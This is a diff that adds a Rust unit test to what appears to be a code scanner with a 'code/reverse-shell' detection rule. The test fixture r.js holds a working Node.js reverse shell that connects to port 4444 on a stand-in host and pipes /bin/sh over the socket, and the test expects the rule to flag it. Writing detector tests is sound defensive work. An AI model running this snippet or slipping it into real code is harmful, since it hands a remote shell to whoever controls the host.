@@ -81,4 +81,19 @@ mod tests {
         ]);
         assert!(hits(&s, "code/reverse-shell").is_empty());
     }
+
+    #[test]
+    fn positive_socket_piped_shell() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "r.js",
+                "const net = require('net'), cp = require('child_process');\nconst c = net.connect(4444, 'h.example.net', () => {\n  const sh = cp.spawn('/bin/sh', []);\n  c.pipe(sh.stdin); sh.stdout.pipe(c);\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/reverse-shell"),
+            vec![("r.js".to_string(), 3)]
+        );
+    }
 }
